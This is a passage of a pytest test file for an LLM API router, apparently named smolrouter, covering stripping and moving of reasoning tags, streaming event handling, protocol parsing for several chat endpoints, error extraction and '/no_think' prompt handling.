<|channel|>analysis<|message|>hm<|end|> ◁think▷
</think>
~~~
"""


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", [*EXAMPLE_REQUESTS, ANTHROPIC, RESPONSES])
@pytest.mark.parametrize("setting", ["true", "move"])
def test_answer_about_tags_arrives_whole(path: str, stream: bool, setting: str) -> None:
    if "embed" in path:
        return
    item = {"type": "message", "content": [{"type": "output_text", "text": ABOUT_TAGS}]}
    block = {"type": "text", "text": ABOUT_TAGS}
    pieces = re.findall("(?s).{1,3}", ABOUT_TAGS)
    said: Any = completion({}, ABOUT_TAGS)
    events: list[Any] = [*text_deltas(*pieces), finish_delta(), "[DONE]"]
    if path == "/v1/completions":
        said = completion({}, ABOUT_TAGS, "text")
        events = [{"choices": [{"index": 0, "text": piece}]} for piece in pieces] + ["[DONE]"]
    elif path == ANTHROPIC:
        said = {"type": "message", "role": "assistant", "content": [block]}
        events = block_deltas(*pieces)
    elif path == RESPONSES:
        said = {"object": "response", "output": [item]}
        events = response_deltas(*pieces)
    script = sse_response(events) if stream else json_response(said)
    model = default_upstream().add_script(script)
    router = router_filtering(STRIP_THINKING=setting)
    more = {"messages": [{"role": "user", "content": "hi"}], "input": "hi", "max_tokens": 9}
    document = {**more, **EXAMPLE_REQUESTS.get(path, {}), "model": model, "stream": stream}
    got = request(router.port, "POST", path, document)
    if path.startswith("/api"):
        assert got.text == ABOUT_TAGS
    elif not stream:
        assert got.content == encode_json(said)
    elif path == ANTHROPIC:
        assert read_blocks(got.content) == [("text", ABOUT_TAGS)] * 2
    elif path == RESPONSES:
        assert texts_in(got.content, "delta") == ABOUT_TAGS
    else:
        assert got.text == ABOUT_TAGS
    # Events that no tag is split between leave as they came.
    if stream and path == CHAT:
        lines = text_deltas(*ABOUT_TAGS.splitlines(keepends=True))
        sent = sse_response([*lines, finish_delta(), "[DONE]"])
        got = post_chat(router, default_upstream().add_script(sent), stream=True)
        assert got.content == b"".join(map(encode_event, [*lines, finish_delta(), "[DONE]"]))


def test_each_choice_has_its_own_state() -> None:
    first = text_deltas("<think>", "no", "</think>", "one", " more")
    second = text_deltas("two", " <th", "ink>no", "</think>", "!", index=1)
    both = [encode_event(e) for pair in zip(first, second, strict=True) for e in pair]
    got = post_chat(
        default_router(),
        default_upstream().add_script(sse_response([*both, "[DONE]"])),
        stream=True,
    )
    texts = {0: "", 1: ""}
    for document in got.documents:
        for choice in document["choices"]:
            texts[choice["index"]] += choice["delta"].get("content", "")
    assert texts == {0: "one more", 1: "two !"}


def test_many_choices_in_one_document() -> None:
    message = {"message": {"content": "<think>no</think>yes"}}
    delta = {"delta": {"content": "<think>no</think>yes"}}
    choices = [{"index": n, **message} for n in range(5000)]
    events = [{"choices": [{"index": n, **delta} for n in range(5000)]}, "[DONE]"]
    # A router of its own, because a fault would freeze it.
    with Router({"DEFAULT_UPSTREAM": default_upstream().url}) as router:
        model = default_upstream().add_script(json_response({"choices": choices}))
        assert post_chat(router, model).text == "yes" * 5000
        model = default_upstream().add_script(sse_response(events))
        assert post_chat(router, model, stream=True).text == "yes" * 5000


# --- what no filter changes -----------------------------------------------------------


def test_events_that_the_filter_does_not_change_are_not_changed() -> None:
    odd = [
        b": a comment\n\n",
        b'event: x\nid: 7\nretry: 10\ndata: {"a":  1.0e0}\n\n',
        b'data:{"choices":[{"delta":{"content":"\\u0048i \\/ \xc3"},"index":0}]}\n\n',
        b'data: {"choices" : [ {"index":0, "delta":{ "content":"a < b" } } ] }\n\n',
        b'data: not JSON\n\n', b'data: [1, 2]\ndata: null\n\n', b'data: [DONE]\n\n',
    ]  # fmt: skip
    model = default_upstream().add_script(sse_response(odd))
    assert post_chat(default_router(), model, stream=True).content == b"".join(odd)
    thought = chat_stream("<think>", "hidden", "</think>")[:4]
    model = default_upstream().add_script(sse_response([*thought, *odd]))
    got = post_chat(default_router(), model, stream=True).content
    assert got.endswith(b"".join(odd))
    assert b"hidden" not in got and got.startswith(thought[0])


@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
def test_stream_without_thinking_is_identical(newline: bytes) -> None:
    data = b"".join(chat_stream("Hello", " <b>wor", "ld</b> \\u003c")).replace(b"\n", newline)
    model = default_upstream().add_script(stream_response(split_at(data, 9, 99)))
    assert post_chat(default_router(), model, stream=True).content == data


@pytest.mark.parametrize("content", [
    b'{"choices":[{"index":0,"message":{"content":"a < b  \\u00e9 \\u003cb>"}}] }\n',
    b'{ "choices" : [], "n": 1.0, "big": 123456789012345678901234567890 }',
    b'not JSON at all <b>', b'[1,2,3]', b'null', b'\xff\xfe<',
])  # fmt: skip
def test_answer_without_thinking_is_identical(content: bytes) -> None:
    model = default_upstream().add_script(whole_response(content, kind="application/json"))
    got = post_chat(default_router(), model)
    assert (got.status, got.content) == (200, content)


def test_an_emptied_event_that_carries_more_stays() -> None:
    carrier = {"index": 0, "delta": {"content": "<think>no"}, "finish_reason": "length"}
    call = {"content": "</think>", "tool_calls": [{"index": 0, "id": "call-1"}]}
    events = [
        {"choices": [carrier], "usage": {"total_tokens": 3}},
        {"choices": [{"index": 0, "delta": call}]},
        "[DONE]",
    ]
    model = default_upstream().add_script(sse_response(events))
    options = {"include_usage": True}
    got = post_chat(default_router(), model, stream=True, stream_options=options)
    assert got.text == ""
    first, second = got.documents
    assert first["choices"][0]["finish_reason"] == "length"
    assert first["usage"] == {"total_tokens": 3}
    assert second["choices"][0]["delta"]["tool_calls"] == call["tool_calls"]


# --- fences, and filters that are off -------------------------------------------------

FENCED = 'Here:\n```json\n{"a": "```",\n  "b": 1}\n```\nand\n```python\nx\n```\n'
UNFENCED = 'Here:\n{"a": "```",\n  "b": 1}\nand\n```python\nx\n```\n'


def test_fences_at_every_split() -> None:
    router = router_filtering(STRIP_JSON_MARKDOWN=1)

    def split(*at: int) -> str:
        texts = [p.decode() for p in split_at(FENCED.encode(), *at)]
        model = default_upstream().add_script(sse_response(chat_stream(*texts)))
        return post_chat(router, model, stream=True).text

    assert set(map_in_threads(split, range(1, len(FENCED)))) == {UNFENCED}
    assert split(*range(1, len(FENCED))) == UNFENCED
    whole = default_upstream().add_script(json_response(completion({}, FENCED)))
    assert post_chat(router, whole).text == UNFENCED
    assert post_chat(default_router(), whole).text == FENCED


def test_think_stripping_can_be_set_in_the_routing_file() -> None:
    servers = {
        "plain": default_upstream().url,
        "moving": {"url": default_upstream().url, "thinking": "move"},
        "keeping": {"url": default_upstream().url, "thinking": ["keep"]},
        "opening": {"url": default_upstream().url, "thinking": "opened"},
    }
    closed = default_upstream().add_script(json_response(completion({}, "hm</think>Yes")))
    model = default_upstream().add_script(json_response(completion({}, "<think>hm</think>Yes")))
    aliases = {
        "near": {"instances": [f"keeping/{model}"], "thinking": "move"},
        "far": {"instances": [f"keeping/{model}"]},
        "both": {"instances": [f"opening/{closed}"], "thinking": "move"},
        "one": {"instances": [f"plain/{closed}"], "thinking": ["opened", "move"]},
        "none": {"instances": [f"plain/{closed}"]},
    }
    routes = [
        {"match": {"model": "through"}, "route": {"alias": "near", "thinking": "keep"}},
        {"match": {"model": "through-far"}, "route": {"alias": "far", "thinking": "strip"}},
        {"match": {"model": "/^r-(.*)/"},
         "route": {"upstream": "keeping", "model": "\\1", "thinking": "move"}},
        {"match": {"model": "alone"}, "route": {"model": model, "thinking": "keep"}},
    ]  # fmt: skip
    table = {"servers": servers, "aliases": aliases, "routes": routes}
    moved = {"role": "assistant", "content": "Yes", "reasoning_content": "hm"}
    stripped = {"role": "assistant", "content": "Yes"}
    kept = {"role": "assistant", "content": "<think>hm</think>Yes"}
    with Router({"DEFAULT_UPSTREAM": default_upstream().url}, table) as router:
        for name, wanted in (
            ("none", {"role": "assistant", "content": "hm</think>Yes"}),
            (f"{model} [plain]", stripped), (f"{model} [moving]", moved),
            (f"{model} [keeping]", kept), ("near", moved), ("far", kept), ("through", moved),
            ("through-far", stripped), (f"r-{model}", moved), ("alone", kept),
            ("both", moved), ("one", moved),
        ):  # fmt: skip
            assert post_chat(router, name).json["choices"][0]["message"] == wanted, name


def test_opened_thinking_is_learned_and_forgotten() -> None:
    texts = ["hm\n</think>\n\nYes"]

    def script(received: Received) -> Iterable[Step]:
        return script_saying(texts[-1])(received)

    model = default_upstream().add_script(script)
    with Router({"DEFAULT_UPSTREAM": default_upstream().url}) as router:
        # A stream cannot know, and tells the next ones.
        assert post_chat(router, model, stream=True).text == texts[0]
        assert post_chat(router, model, stream=True).text == "Yes"
        assert post_chat(router, model).text == "Yes"
        # The next answer has not begun so: nothing is lost, and the one after it is not held back.
        texts.append("All of it.")
        got = post_chat(router, model, stream=True)
        assert got.text == texts[-1] and len(got.documents) < 4
        texts.append("hm</think>Yes")
        assert post_chat(router, model, stream=True).text == texts[-1]
        # A whole answer teaches it, too, and so it does where the answer is translated.
        texts.append("hm\n</think>\nYes")
        for path in (CHAT, "/api/chat"):
            assert (
                request(router.port, "POST", path, example_request(path, model, False)).text
                == "Yes"
            )
            got = request(router.port, "POST", path, example_request(path, model, True))
            assert got.text == "Yes"
            texts.append("All of it.")
            assert (
                request(router.port, "POST", path, example_request(path, model, True)).text
                == texts[-1]
            )
            texts.pop()


def test_thinking_moves_end_to_end() -> None:
    router = router_filtering(STRIP_THINKING="move")
    model = default_upstream().add_script(script_saying("<think>hm</think>\n\nYes"))
    message = post_chat(router, model).json["choices"][0]["message"]
    assert (message["content"], message["reasoning_content"]) == ("Yes", "hm")
    got = post_chat(router, model, stream=True)
    deltas = [d["choices"][0]["delta"] for d in got.documents if d["choices"]]
    assert "".join(delta.get("reasoning_content") or "" for delta in deltas) == "hm"
    assert got.text == "Yes"
    for stream in (False, True):
        got = request(router.port, "POST", "/api/chat", example_request("/api/chat", model, stream))
        documents = got.documents if stream else [got.json]
        assert "".join(d["message"].get("thinking") or "" for d in documents) == "hm"
        assert got.text == "Yes"


def test_think_stripping_can_be_off() -> None:
    router = router_filtering(STRIP_THINKING="no")
    data = b"".join(chat_stream(*THINKING_TEXTS))
    model = default_upstream().add_script(stream_response([data]))
    assert post_chat(router, model, stream=True).content == data


# ======================================================================================
# 7  Protocols
# ======================================================================================
# A new endpoint gets a case in each table that it belongs to: the user's words, the token
# counts, the conversation.

# --- what a document says -------------------------------------------------------------

SAID_PARTS: list[tuple[str, Any, list[tuple[Any, ...]]]] = [
    # path, answer or event, its parts: kind, choice, block, path of the value, value
    (CHAT, {"choices": [{"index": 0, "delta": {"role": "assistant", "content": "Hi"},
                         "finish_reason": None}], "usage": None},
     [("role", 0, None, "choices.0.delta.role", "assistant"),
      ("text", 0, None, "choices.0.delta.content", "Hi")]),
    (CHAT, {"choices": [{"index": 1, "delta": {"content": ""}, "finish_reason": "stop"}]},
     [("text", 1, None, "choices.0.delta.content", ""),
      ("finish", 1, None, "choices.0.finish_reason", "stop")]),
    (CHAT, {"choices": [{"message": {"content": [{"type": "text", "text": "a"}, "b"],
                                     "reasoning": "t", "refusal": None}}]},
     [("text", 0, 0, "choices.0.message.content.0.text", "a"),
      ("text", 0, 1, "choices.0.message.content.1", "b"),
      ("thinking", 0, None, "choices.0.message.reasoning", "t")]),
    (CHAT, {"choices": [{"delta": {"tool_calls": [{"index": 0, "id": "c"}], "audio": {"id": 1}}}]},
     [("call", 0, 0, "choices.0.delta.tool_calls.0", {"index": 0, "id": "c"}),
      ("other", 0, None, "choices.0.delta.audio", {"id": 1})]),
    (CHAT, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop",
                         "message": {"role": "assistant", "content": "all", "tool_calls": [{}]}}]},
     [("again", 0, None, "choices.0.message.content", "all"),
      ("finish", 0, None, "choices.0.finish_reason", "stop")]),
    (CHAT, {"choices": [{"index": 0, "delta": None, "message": {"content": "all"}}]},
     [("text", 0, None, "choices.0.message.content", "all")]),
    (CHAT, {"choices": "x", "usage": {"total_tokens": 1}, "error": ""},
     [("odd", 0, None, "choices", "x"), ("usage", 0, None, "usage", {"total_tokens": 1})]),
    (CHAT, {"object": "error", "message": "no"},
     [("error", 0, None, "", {"object": "error", "message": "no"})]),
    ("/v1/completions", {"choices": [{"index": 0, "text": "a", "logprobs": {}}]},
     [("text", 0, None, "choices.0.text", "a")]),
    ("/v1/messages", {"type": "content_block_delta", "index": 2,
                      "delta": {"type": "text_delta", "text": "a"}},
     [("text", 0, 2, "delta.text", "a")]),
    ("/v1/messages", {"type": "content_block_delta", "index": 1,
                      "delta": {"type": "input_json_delta", "partial_json": "{"}},
     [("call", 0, 1, "delta", {"type": "input_json_delta", "partial_json": "{"})]),
    ("/v1/messages", {"type": "content_block_stop", "index": 2},
     [("text end", 0, 2, "type", "content_block_stop")]),
    ("/v1/messages", {"type": "message_stop"}, [("end", 0, None, "type", "message_stop")]),
    ("/v1/messages", {"type": "error", "error": {"message": "no"}},
     [("error", 0, None, "", {"message": "no"})]),
    ("/v1/messages", {"type": "ping"}, []),
    ("/v1/responses", {"type": "response.output_text.delta", "item_id": "m", "delta": "a"},
     [("text", 0, "m", "delta", "a")]),
    ("/v1/responses", {"type": "response.output_text.done", "item_id": "m", "text": "ab"},
     [("text end", 0, "m", "type", "response.output_text.done"),
      ("again", 0, "m", "text", "ab")]),
    ("/v1/responses", {"type": "response.failed", "response": {"error": {"message": "no"}}},
     [("end", 0, None, "type", "response.failed"),
      ("error", 0, None, "response.error", {"message": "no"})]),
    ("/v1/responses", {"object": "response", "output": [
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": "t"}]},
        {"type": "message", "role": "assistant", "content": [
            {"type": "output_text", "text": "x"}]}]},
     [("thinking", 0, 0, "output.0.summary.0.text", "t"),
      ("role", 0, 1, "output.1.role", "assistant"),
      ("text", 0, 0, "output.1.content.0.text", "x")]),
    ("/api/chat", {"message": {"role": "assistant", "content": "a", "thinking": "t"},
                   "done": False},
     [("text", 0, None, "message.content", "a"), ("thinking", 0, None, "message.thinking", "t")]),
    ("/api/generate", {"response": "a", "done": True},
     [("text", 0, None, "response", "a"), ("end", 0, None, "done", True)]),
    ("/completion", {"index": 1, "content": "a", "stop": False}, [("text", 0, 1, "content", "a")]),
    ("/infill", {"content": "a", "stop": True, "prompt": "b"},
     [("text", 0, None, "content", "a"), ("finish", 0, None, "stop", True)]),
    ("/detokenize", {"content": "a"}, []),
    ("/v1/unheard-of", {"content": "a", "results": [{"text": "b"}]},
     [("text", 0, None, "content", "a")]),
]  # fmt: skip


@pytest.mark.parametrize("path, document, wanted", SAID_PARTS)
def test_what_an_answer_says(path: str, document: Any, wanted: list[tuple[Any, ...]]) -> None:
    parts = smolrouter.read_answer(smolrouter.find_protocol(path), document)
    found = [(p.kind, p.choice, p.item, ".".join(map(str, p.path)), p.value) for p in parts]
    assert sorted(found, key=repr) == sorted(wanted, key=repr)
    for part in parts:
        value = document
        for key in part.path:
            value = value[key]
        assert part.value in (value, document.get("error"))


def kinds_of_shape(shape: Any) -> Iterator[str]:
    """Yield all kinds that a shape names."""
    if isinstance(shape, str):
        yield shape
    elif isinstance(shape, dict):
        assert all(isinstance(name, str) for name in shape)
        for inner in shape.values():
            yield from kinds_of_shape(inner)
    elif isinstance(shape, smolrouter.ByType):
        for inner in (*shape.shapes.values(), shape.other):
            yield from kinds_of_shape(inner)
    elif isinstance(shape, smolrouter.IfNotNull):
        yield from kinds_of_shape(shape.shape)
        yield from kinds_of_shape(shape.other)
    elif isinstance(shape, smolrouter.TextOr):
        yield shape.kind
        yield from kinds_of_shape(shape.other)
    else:
        assert isinstance(shape, smolrouter.Each) or len(shape) == 1
        yield from kinds_of_shape(shape[0])


def test_every_row_is_drawn_with_known_kinds() -> None:
    constants = [value for name, value in vars(smolrouter).items() if name.isupper()]
    known = {value for value in constants if isinstance(value, str)}
    for path, protocol in smolrouter.PROTOCOLS.items():
        kinds = {*kinds_of_shape(protocol.request), *kinds_of_shape(protocol.answer)}
        assert kinds < known, path
        if protocol.user_words:
            assert {smolrouter.TEXT, smolrouter.ERROR} <= kinds, path
        if protocol.openai_path:
            assert protocol.openai_path in smolrouter.PROTOCOLS, path


REQUEST_MESSAGES: list[tuple[str, Any, list[tuple[Any, ...]]]] = [
    # path, request, its messages: role, text, thoughts, names of calls, id of a result
    ("/v1/completions", {"prompt": [1, 2, "hi"]}, [("user", "hi", "", [], None)]),
    ("/api/generate", {"prompt": "hi", "system": "be brief"},
     [("system", "be brief", "", [], None), ("user", "hi", "", [], None)]),
    ("/v1/messages", {"messages": [
        {"content": [{"type": "tool_result", "tool_use_id": "t", "content": "9"}], "role": "user"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "u", "name": "f"}]}]},
     [("tool", "9", "", [], "t"), ("assistant", "", "", ["f"], None)]),
    ("/v1/responses", {"input": [
        {"type": "reasoning", "summary": [{"text": "t"}]},
        {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c", "output": "1"}, "hi"]},
     [("assistant", "", "t", [], None), ("assistant", "", "", ["f"], None),
      ("tool", "1", "", [], "c"), ("user", "hi", "", [], None)]),
    (CHAT, {"messages": [{"role": "assistant", "content": "a", "reasoning": "t",
                          "reasoning_content": "t"}]}, [("assistant", "a", "t", [], None)]),
]  # fmt: skip


@pytest.mark.parametrize("path, document, wanted", REQUEST_MESSAGES)
def test_messages_of_a_request(path: str, document: Any, wanted: list[tuple[Any, ...]]) -> None:
    messages = smolrouter.read_messages(smolrouter.find_protocol(path), document)
    found = [m.as_document() for m in messages]
    assert [
        (m["role"], m["content"], m["thinking"], [c["name"] for c in m["tool_calls"]],
         m["tool_call_id"])
        for m in found
    ] == wanted  # fmt: skip


@pytest.mark.parametrize("messages", ["hi", ["hi"], [{"content": 5}], [{"tool_calls": [None]}]])
def test_odd_messages_are_refused_or_left_out(messages: Any) -> None:
    protocol = smolrouter.find_protocol("/api/chat")
    with pytest.raises(smolrouter.MalformedContent, match="has no known shape"):
        smolrouter.read_messages(protocol, {"messages": messages})
    for message in smolrouter.read_messages(protocol, {"messages": messages}, tolerant=True):
        assert not message.texts and not message.calls


ERROR_SHAPES: list[tuple[Any, str]] = [
    ({"error": {"message": "no memory", "code": 5}}, "no memory"),
    ({"error": "no memory"}, "no memory"),
    ({"error": {"code": 5}}, '{"code": 5}'),
    ({"type": "error", "error": {"type": "x", "message": "no memory"}}, "no memory"),
    ({"object": "error", "message": "no memory"}, "no memory"),
    ({"error": None}, ""),
    ({"error": {}}, ""),
    ({"message": {"content": "error"}}, ""),
]


@pytest.mark.parametrize("document, words", ERROR_SHAPES)
@pytest.mark.parametrize("path", smolrouter.PROTOCOLS)
def test_error_of_every_protocol(path: str, document: Any, words: str) -> None:
    assert smolrouter.find_error(smolrouter.find_protocol(path), document) == words


# What the answers of each endpoint say before they say anything; a string is an event as it is.
SAY_NOTHING: dict[str, list[Any]] = {
    CHAT: [
        ": ping\n\n",
        "data:\n\n",
        "event: ping\ndata: {}\n\n",
        {"type": "ping"},
        {"choices": []},
        {"choices": [{"index": 0, "delta": {"role": "assistant"}}]},
        {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]},
        {"choices": [{"delta": {"role": "assistant", "content": None, "tool_calls": []}}]},
        {"choices": [{"delta": {"content": "", "reasoning": None}, "finish_reason": None}]},
        {"choices": [{"delta": {}}], "usage": None, "prompt_progress": {"total": 9}},
        {"choices": [], "usage": {"prompt_tokens": 9}},
    ],
    "/v1/completions": [{"choices": [{"index": 0, "text": "", "finish_reason": None}]}],
    ANTHROPIC: [
        "event: ping\ndata: {\"type\": \"ping\"}\n\n",
        {"type": "message_start", "message": {"role": "assistant", "content": []}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_start", "content_block": {"type": "thinking", "thinking": ""}},
        {"type": "content_block_delta", "delta": {"type": "text_delta", "text": ""}},
        {"type": "content_block_stop", "index": 0},
    ],
    RESPONSES: [
        {"type": "keepalive"},
        {"type": "response.created", "response": {"output": [], "error": None}},
        {"type": "response.in_progress", "response": {"status": "in_progress", "output": []}},
        {"type": "response.queued", "response": {}},
        {"type": "response.output_item.added", "item": {"type": "message", "content": []}},
        {"type": "response.output_item.added", "item": {"type": "reasoning", "summary": []}},
        {"type": "response.content_part.added", "part": {"type": "output_text", "text": ""}},
        {"type": "response.output_text.delta", "delta": ""},
    ],
    "/api/chat": [
        {"model": "m", "message": {"role": "assistant", "content": ""}, "done": False},
        {"message": {"content": "", "thinking": ""}, "done": False},
    ],
    "/api/generate": [{"model": "m", "response": "", "done": False}],
}  # fmt: skip
SAY_SOMETHING: dict[str, list[Any]] = {
    CHAT: [
        text_delta("Hi"),
        text_delta(" "),
        finish_delta(),
        {"choices": [{"delta": {"reasoning_content": "Hm"}}]},
        {"choices": [{"delta": {"reasoning": "Hm"}}]},
        {"choices": [{"delta": {"tool_calls": [{"index": 0, "function": {"name": "f"}}]}}]},
        {"choices": [{"delta": {"audio": {"data": "AA=="}}}]},
        {"choices": [{"message": {"role": "assistant", "content": "Hi"}}]},
        {"type": "something else"},
        "data: Hi\n\n",
        "data: [1]\n\n",
    ],
    "/v1/completions": [
        {"choices": [{"text": "Hi"}]},
        {"choices": [{"text": "", "finish_reason": "stop"}]},
    ],
    ANTHROPIC: [
        {"type": "content_block_delta", "delta": {"type": "text_delta", "text": "Hi"}},
        {"type": "content_block_delta", "delta": {"type": "thinking_delta", "thinking": "Hm"}},
        {"type": "content_block_start", "content_block": {"type": "tool_use", "name": "f"}},
        {"type": "message_stop"},
        {"type": "message", "content": [{"type": "text", "text": "Hi"}]},
    ],
    RESPONSES: [
        {"type": "response.output_text.delta", "delta": "Hi"},
        {"type": "response.reasoning_text.delta", "delta": "Hm"},
        {"type": "response.output_item.added", "item": {"type": "function_call", "name": "f"}},
        {"type": "response.function_call_arguments.delta", "delta": "{"},
        {"type": "response.completed", "response": {"output": []}},
        {"object": "response", "output": [{"type": "message", "content": []}], "usage": {"n": 1}},
    ],
    "/api/chat": [
        {"message": {"content": "Hi"}, "done": False},
        {"message": {"content": "", "thinking": "Hm"}, "done": False},
        {"message": {"content": "", "tool_calls": [{"function": {"name": "f"}}]}, "done": False},
        {"message": {"content": ""}, "done": True, "done_reason": "stop"},
    ],
    "/api/generate": [{"response": "Hi", "done": False}, {"response": "", "done": True}],
    "/v1/embeddings": [{"object": "list", "data": [{"embedding": [1]}], "usage": {"n": 1}}],
    "/v1/images/generations": [{"type": "image_generation.partial_image", "b64_json": "AA=="}],
    "/api/pull": [{"status": "pulling manifest"}],
}


def event_type(path: str) -> str:
    """Return the media type of the streams of a path."""
    return "application/x-ndjson" if path.startswith("/api/") else "text/event-stream"


def encode_events(path: str, events: Iterable[Any]) -> list[bytes]:
    """Encode the events of a path; a string is one as it is."""
    encoded = []
    for event in events:
        if isinstance(event, str):
            encoded.append(event.encode())
        elif path.startswith("/api/"):
            encoded.append(encode_json(event) + b"\n")
        else:
            encoded.append(encode_event(event))
    return encoded


def new_opening(path: str, **more: Any) -> smolrouter.Opening:
    """Make an Opening for a stream of a path."""
    return smolrouter.Opening(smolrouter.find_protocol(path), event_type(path), **more)


@pytest.mark.parametrize("path", SAY_SOMETHING)
def test_what_an_answer_says_first(path: str) -> None:
    begin = encode_events(path, SAY_NOTHING.get(path, []))
    if not path.startswith("/api/"):
        begin.append(RAW_DONE)
    opening = new_opening(path)
    assert not any(opening.feed(event) for event in begin)
    assert not opening.finish(False)
    for event in encode_events(path, SAY_SOMETHING[path]):
        opening = new_opening(path)
        # It is clear with the last octet of the event, not before.
        heard = [opening.feed(octet) for octet in split_at(event, *range(1, len(event)))]
        assert heard == [False] * (len(event) - 1) + [True], event
        # CR, with which an event of SSE may end, is for others to test.
        assert opening.error is None
    opening = new_opening(path)
    for event in encode_events(path, SAY_SOMETHING[path]):
        assert opening.feed(b"".join(begin) + event)


@pytest.mark.parametrize("path", SAY_NOTHING)
def test_an_error_that_an_answer_begins_with(path: str) -> None:
    begin = encode_events(path, SAY_NOTHING[path])
    errors: list[tuple[Any, int | None]] = [
        ("no memory", None),
        ({"message": "no memory"}, None),
        ({"message": "no memory", "code": 503}, 503),
        ({"message": "no memory", "code": "429"}, 429),
        ({"message": "no memory", "type": "overloaded_error"}, 503),
        ({"message": "no memory", "type": "rate_limit_error", "code": None}, 429),
        ({"message": "no memory", "code": "insufficient_quota", "status": 500}, 500),
    ]
    for error, status in errors:
        opening = new_opening(path)
        (event,) = encode_events(path, [{"error": error}])
        assert [opening.feed(piece) for piece in [*begin, event]] == [False] * len(begin) + [True]
        assert (str(opening.error), opening.error.told_status) == ("no memory", status)
        # It comes first also when there is text behind it in the same piece.
        opening = new_opening(path)
        assert opening.feed(b"".join([event, *encode_events(path, SAY_SOMETHING[path])]))
        assert str(opening.error) == "no memory"
        # What stands in no event, and what lacks its end, counts at the end of the answer.
        for media_type in (event_type(path), "application/json", "text/plain", ""):
            opening = smolrouter.Opening(smolrouter.find_protocol(path), media_type)
            data = event[:-1] if media_type == event_type(path) else encode_json({"error": error})
            assert opening.feed(data) or opening.finish(False)
            assert str(opening.error) == "no memory", media_type


WHOLE_OPENINGS: list[tuple[bytes, bool, bool]] = [
    (b"", False, False),
    (b" \r\n", False, False),
    (b"\xef\xbb\xbf\r\n", False, False),
    (b"{}", False, False),
    (b'{"choices": []}', False, False),
    (b'{"choices": [{"message": {"content": ""}, "finish_reason": "stop"}]}', False, True),
    (b'{"n": 1}', False, True),
    (b'{"n": 1}\n', True, True),
    (b'{"choices": []}\n{"n": 1}\n', False, True),
    (b"[1]", True, True),
    (b"\xef\xbb\xbf<html>", True, True),
    (b'{"n": ', False, True),
]


@pytest.mark.parametrize("content, at_once, in_the_end", WHOLE_OPENINGS)
def test_an_answer_that_is_no_stream(content: bytes, at_once: bool, in_the_end: bool) -> None:
    for coding, data in (("", content), ("gzip", gzip.compress(content))):
        opening = smolrouter.Opening(smolrouter.find_protocol(CHAT), "application/json", coding)
        assert opening.feed(data) == at_once
        assert (at_once or opening.finish(False)) == in_the_end


def test_so_much_of_nothing_is_an_answer() -> None:
    limits = smolrouter.Limits(silent_beginning=20)
    for begin in (b": ping\n\n", b"data: {", b'{"a":1,'):
        for media_type in ("text/event-stream", "application/json"):
            opening = smolrouter.Opening(smolrouter.find_protocol(CHAT), media_type, limits=limits)
            if begin.startswith((b":", b"d")) and media_type == "application/json":
                continue
            heard = [opening.feed(begin) for _ in range(4)]
            assert heard == [False] * (20 // len(begin)) + [True] * (4 - 20 // len(begin))


ERROR_WORDS: list[tuple[bytes, str]] = [
    (b'{"error": {"message": "no memory", "code": 5}}', "no memory"),
    (b'{"error": "no memory"}', "no memory"),
    (b'{"error": true, "message": "no memory"}', "no memory"),
    (b'{"detail": "no memory"}', "no memory"),
    (b'{"detail": {"error": "no memory"}}', "no memory"),
    (b'{"detail": [{"msg": "no such field"}]}', '[{"msg": "no such field"}]'),
    (b'{"object": "error", "message": "no memory"}', "no memory"),
    (b'[{"error": {"message": "no memory"}}]\n', "no memory"),
    (b'data: {"error": {"message": "no memory"}}\n\ndata: [DONE]\n\n', "no memory"),
    (b"<html>\n<head><TITLE>\n502 Bad Gateway</title></head>", "502 Bad Gateway"),
    (b" no memory \n", "no memory"),
    (b"caf\xe9", "caf\ufffd"),
    (b"[1, 2]", "[1, 2]"),
    (b'{"code": 5}', '{"code": 5}'),
    (b"", ""),
]


@pytest.mark.parametrize("content, words", ERROR_WORDS)
def test_words_of_an_error_answer(content: bytes, words: str) -> None:
    assert smolrouter.read_error(content) == words


# --- the user's words -----------------------------------------------------------------

NO_THINK = [
    ("/v1/chat/completions", {"messages": [{"role": "user", "content": "a"}, {"role": "x"}]},
     {("messages", 0, "content"): "a /no_think"}),
    ("/v1/chat/completions",
     {"messages": [{"role": "user", "content": [{"text": "a"}, {"image_url": {}}]}]},
     {("messages", 0, "content", 0, "text"): "a /no_think"}),
    ("/v1/completions", {"prompt": "a"}, {("prompt",): "a /no_think"}),
    ("/v1/completions", {"prompt": "a", "suffix": ""}, {("prompt",): "a /no_think"}),
    ("/v1/completions", {"prompt": "if a < b and c[1] | d > e: <p>"},
     {("prompt",): "if a < b and c[1] | d > e: <p> /no_think"}),
    ("/v1/completions", {"prompt": "a", "suffix": "b"}, {}),
    *(("/v1/completions", {"prompt": prompt}, {}) for prompt in (
        "<|im_start|>user\nhi<|im_end|>", "<|fim_prefix|>a<|fim_suffix|>b<|fim_middle|>",
        "<\uff5cfim\u2581begin\uff5c>a", "<fim_prefix>a", "<[fim-suffix]>b", "<s>[INST] hi [/INST]",
        " <PRE> a <SUF>b <MID>", "[SUFFIX]b[PREFIX]a", "<start_of_turn>user", [3, 4], [[3], [4]],
        ["a", "<|user|>b"])),
    ("/completion", {"prompt": "a"}, {("prompt",): "a /no_think"}),
    ("/completion", {"prompt": "<|im_start|>user\nhi<|im_end|>"}, {}),
    ("/infill", {"prompt": "a", "input_prefix": "b", "input_suffix": "c"}, {}),
    ("/apply-template", {"messages": [{"role": "user", "content": "a"}]}, {}),
    ("/api/generate", {"prompt": "a"}, {("prompt",): "a /no_think"}),
    ("/api/generate", {"prompt": "what is <|im_end|>?"},
     {("prompt",): "what is <|im_end|>? /no_think"}),
    ("/api/generate", {"prompt": "a", "raw": True}, {}),
    ("/api/generate", {"prompt": "a", "suffix": "b"}, {}),
    ("/v1/responses", {"input": "a"}, {("input",): "a /no_think"}),
    ("/v1/responses", {"input": [{"role": "user", "content": "a"}]},
     {("input", 0, "content"): "a /no_think"}),
    ("/v1/images/generations", {"prompt": "a cat"}, {}),
    ("/v1/audio/speech", {"input": "a", "instructions": "calm"}, {}),
    ("/v1/embeddings", {"input": "a"}, {}),
    ("/v1/chat/completions", {"messages": [{"role": "system", "content": "a"}]}, {}),
]  # fmt: skip


